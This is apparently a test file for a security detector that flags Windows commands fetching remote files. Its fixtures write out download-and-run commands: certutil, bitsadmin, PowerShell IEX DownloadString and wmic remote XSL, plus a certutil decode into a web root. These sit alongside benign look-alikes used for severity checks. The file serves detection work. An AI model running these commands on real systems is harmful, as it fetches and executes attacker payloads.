import { expect, test } from 'vitest'
import { command, eventOf, matchOf, severityFor } from '../../../test/record-detector.ts'
import { remoteDownload } from './remote-download.ts'

test('names where it came from', () => {
  expect(
    matchOf(remoteDownload, command('certutil.exe -urlcache -split -f http://203.0.113.7/a.exe C:\\Windows\\Temp\\a.exe')),
  ).toEqual({
    title:
      'certutil fetched a file from 203.0.113.7: certutil.exe -urlcache -split -f http://203.0.113.7/a.exe C:\\Windows\\Temp\\a.exe',
    object: '203.0.113.7',
    techniques: ['T1105'],
    severity: 'high',
    addresses: ['203.0.113.7'],
  })
})

test.each([
  ['certutil', command('certutil -urlcache -f https://host.example/a.txt a.txt'), 'medium'],
  ['decoded page', command('certutil -decode c:\\windows\\temp\\a.txt c:\\inetpub\\wwwroot\\iisstart.aspx'), 'low'],
  [
    'bitsadmin',
    command(
      'bitsadmin.exe  /transfer /Download /priority Foreground https://raw.example/a.md C:\\Users\\w\\AppData\\Local\\Temp\\flag.ps1',
    ),
    'low',
  ],
  [
    'in memory',
    command('powershell -nop -c "IEX (New-Object Net.WebClient).DownloadString(\'http://host.example/a\')"'),
    'medium',
  ],
  ['remote style sheet', command('wmic  process list /FORMAT:"https://raw.example/wmicscript.xsl"'), 'medium'],
  ['curl of a program from an address', command('curl.exe -o a.exe http://203.0.113.7/a.exe'), 'medium'],
  // look-alikes
  [
    'an installer fetched by its project',
    command('powershell -c "Invoke-WebRequest https://packages.example/setup.msi -OutFile setup.msi"'),
    'low',
  ],
  [
    'a package manager script block',
    eventOf<'script_activity'>({ kind: 'script_activity', text: 'Invoke-WebRequest https://packages.example/index.json' }),
    'informational',
  ],
  ['curl of a page', command('curl https://status.example/health'), 'informational'],
  ['a browser', command('C:\\Program\\chrome.exe --single-argument https://host.example/download.exe'), ''],
  ['certificate work', command('certutil -store my'), ''],
  ['ordinary', command('ipconfig /all'), ''],
])('%s', (_name, event, severity) => {
  expect(severityFor(remoteDownload, event)).toBe(severity)
})
